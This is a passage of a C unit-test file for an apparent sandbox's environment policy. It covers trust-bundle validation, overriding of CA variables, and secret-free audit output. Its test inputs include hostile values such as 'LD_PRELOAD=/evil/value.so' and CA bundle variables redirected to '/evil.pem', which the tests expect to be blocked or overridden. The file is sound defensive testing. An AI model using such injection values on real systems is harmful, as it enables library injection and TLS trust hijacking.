	snprintf(tb_key, sizeof(tb_key), "%s/key.pem", tb_dir);
	snprintf(tb_both, sizeof(tb_both), "%s/both.pem", tb_dir);
	snprintf(tb_junk, sizeof(tb_junk), "%s/junk.pem", tb_dir);
	FILE *f = fopen(tb_ca, "w");
	PEM_write_X509(f, x);
	PEM_write_X509(f, x); /* two certificates */
	fclose(f);
	f = fopen(tb_key, "w");
	PEM_write_PrivateKey(f, k, NULL, NULL, 0, NULL, NULL);
	fclose(f);
	f = fopen(tb_both, "w");
	PEM_write_X509(f, x);
	PEM_write_PrivateKey(f, k, NULL, NULL, 0, NULL, NULL);
	fclose(f);
	write_text(tb_junk, "-----BEGIN CERTIFICATE-----\nnot base64 at all!\n-----END CERTIFICATE-----\n", NULL);
	X509_free(x);
	EVP_PKEY_free(k);
	return 0;
}

static int tb_teardown(void **state)
{
	(void)state;
	const char *files[] = { tb_ca, tb_key, tb_both, tb_junk };
	for (size_t i = 0; i < 4; i++)
		unlink(files[i]);
	rmdir(tb_dir);
	return 0;
}

static void test_trust_bundle(void **state)
{
	(void)state;
	char err[512];
	assert_int_equal(trust_bundle_check(tb_ca, err, sizeof(err)), 2);
	assert_int_equal(trust_bundle_check(tb_key, err, sizeof(err)), -EINVAL);
	assert_non_null(strstr(err, "no PEM certificate"));
	assert_int_equal(trust_bundle_check(tb_both, err, sizeof(err)), -EINVAL);
	assert_non_null(strstr(err, "private key"));
	assert_int_equal(trust_bundle_check(tb_junk, err, sizeof(err)), -EINVAL);
	assert_int_equal(trust_bundle_check("/nonexistent/ca.pem", err, sizeof(err)), -ENOENT);
	assert_int_equal(trust_bundle_check("ca.pem", err, sizeof(err)), -EINVAL);
	assert_int_equal(trust_bundle_check(tb_dir, err, sizeof(err)), -EINVAL);

	char yaml[512];
	snprintf(yaml, sizeof(yaml),
		 "version: 1\nenvironment:\n  pass_through: [SSL_CERT_FILE, PIP_CERT]\n  trust_bundle: %s\n"
		 "  set:\n    CURL_CA_BUNDLE: /evil.pem\n", tb_ca);
	struct policy *on = mkpol(NULL, yaml, NULL, NULL);
	struct policy *off = mkpol(NULL, "version: 1\nenvironment:\n  pass_through: [SSL_CERT_FILE, PIP_CERT]\n",
				   NULL, NULL);
	char *parent[] = { "SSL_CERT_FILE=/evil.pem", "PIP_CERT=/evil.pem", NULL };
	struct envb_result r;
	build(on, parent, NULL, &r);
	static const char *const names[] = { "SSL_CERT_FILE", "REQUESTS_CA_BUNDLE", "NODE_EXTRA_CA_CERTS",
					     "PIP_CERT", "CURL_CA_BUNDLE", "GIT_SSL_CAINFO", "npm_config_cafile" };
	for (size_t i = 0; i < sizeof(names) / sizeof(names[0]); i++) {
		const char *v = envp_get(r.envp, names[i]);
		if (!v || strcmp(v, tb_ca) != 0)
			fail_msg("%s=%s, want %s", names[i], v ? v : "(unset)", tb_ca);
		assert_true(trust_bundle_var(names[i]));
		const struct envb_entry *e = find(r.set, r.n_set, names[i]);
		assert_non_null(e);
		assert_int_equal(e->reason, REASON_SUPERVISOR_SET);
	}
	assert_null(trust_bundle_vars[sizeof(names) / sizeof(names[0])]);
	const struct envb_entry *e = find(r.parent, r.n_parent, "SSL_CERT_FILE");
	assert_non_null(e);
	assert_false(e->kept);
	assert_int_equal(e->reason, REASON_SUPERVISOR_SET);
	assert_true(warned(&r, "environment.set CURL_CA_BUNDLE dropped (supervisor_set)"));
	envb_result_done(&r);

	build(off, parent, NULL, &r); /* without it: pass_through as before */
	assert_string_equal(envp_get(r.envp, "SSL_CERT_FILE"), "/evil.pem");
	assert_null(envp_get(r.envp, "NODE_EXTRA_CA_CERTS"));
	envb_result_done(&r);
	policy_free(on);
	policy_free(off);

	/* bad files fail the load, at the key */
	const char *bad[] = { tb_key, tb_both, tb_junk, "/nonexistent/ca.pem", "relative.pem" };
	for (size_t i = 0; i < sizeof(bad) / sizeof(bad[0]); i++) {
		snprintf(yaml, sizeof(yaml), "version: 1\nenvironment:\n  trust_bundle: %s\n", bad[i]);
		char why[1024] = "";
		assert_null(mkpol_full(NULL, yaml, NULL, NULL, why, sizeof(why)));
		if (!strstr(why, "trust_bundle"))
			fail_msg("%s: %s", bad[i], why);
	}
	/* a loader that builds no environment (the net-supervisor) opens no
	 * workload file: a bundle it cannot see is not its business */
	static const char missing[] = "version: 1\nenvironment:\n  trust_bundle: /nonexistent/ca.pem\n";
	struct policy_diag diag;
	for (int skip = 0; skip < 2; skip++) {
		struct policy_loader *l;
		struct policy *p = NULL;
		assert_int_equal(policy_loader_new(NULL, 0, &l, &diag), 0);
		if (skip)
			policy_loader_skip_workload_files(l);
		int lr = policy_loader_add_buffer(l, POLICY_LAYER_COMMAND, "m.yaml", missing, sizeof(missing) - 1,
						  &diag);
		if (lr == 0)
			lr = policy_loader_finish(l, &p);
		else
			policy_loader_free(l);
		if (skip) {
			assert_int_equal(lr, 0);
			assert_string_equal(p->env.trust_bundle, "/nonexistent/ca.pem");
			policy_free(p);
		} else {
			assert_true(lr < 0);
			assert_non_null(strstr(diag.msg, "m.yaml:3:17: environment.trust_bundle"));
		}
	}
	/* an immutable system layer's bundle cannot be changed below it */
	char sys[256], proj[256];
	snprintf(sys, sizeof(sys), "version: 1\nimmutable: true\nenvironment:\n  trust_bundle: %s\n", tb_ca);
	snprintf(proj, sizeof(proj), "version: 1\nenvironment:\n  trust_bundle: %s\n", tb_both);
	char why[1024] = "";
	assert_null(mkpol_full(sys, proj, NULL, NULL, why, sizeof(why)));
	assert_non_null(strstr(why, "lockdown violation"));
}

static void test_audit_json(void **state)
{
	struct policy *p = mkpol(NULL, "version: 1\nenvironment:\n  pass_through: [EDITOR]\n", NULL, NULL);
	char *parent[] = { "EDITOR=vi-secret-value", "LD_PRELOAD=/evil/value.so", "GH_TOKEN=ghp_verysecretvalue",
			   "PATH=/usr/bin:.:/bin", "HOME=/home/secret-home-value", NULL };
	struct envb_result r;
	build(p, parent, NULL, &r);
	json_t *j = envb_audit_json(&r);
	assert_non_null(j);
	char *s = json_dumps(j, JSON_COMPACT | JSON_SORT_KEYS);
	assert_non_null(s);
	assert_null(strstr(s, "vi-secret-value"));
	assert_null(strstr(s, "/evil/value.so"));
	assert_null(strstr(s, "ghp_verysecretvalue"));
	assert_null(strstr(s, "secret-home-value"));
	assert_non_null(strstr(s, "\"mode\":\"sanitized\""));
	assert_non_null(strstr(s, "{\"name\":\"LD_PRELOAD\",\"reason\":\"hard_deny\"}"));
	assert_non_null(strstr(s, "{\"name\":\"GH_TOKEN\",\"reason\":\"not_allowed\"}"));
	assert_non_null(strstr(s, "\"path_dropped\":[\".\"]"));
	assert_non_null(strstr(s, "\"path_rewritten\":true"));
	assert_non_null(strstr(s, "\"EDITOR\""));
	free(s);
	json_decref(j);
	envb_result_done(&r);
	policy_free(p);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_hard_deny_table),
		cmocka_unit_test(test_modes),
		cmocka_unit_test(test_matching),
		cmocka_unit_test(test_toolchain_exact),
		cmocka_unit_test(test_value_checks),
		cmocka_unit_test(test_names_invalid),
		cmocka_unit_test(test_extra),
		cmocka_unit_test(test_extra_bad_key),
		cmocka_unit_test(test_set),
		cmocka_unit_test_setup_teardown(test_path_rules, path_setup, path_teardown),
		cmocka_unit_test(test_audit_json),
		cmocka_unit_test(test_git_ssh_via_proxy),
		cmocka_unit_test_setup_teardown(test_trust_bundle, tb_setup, tb_teardown),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
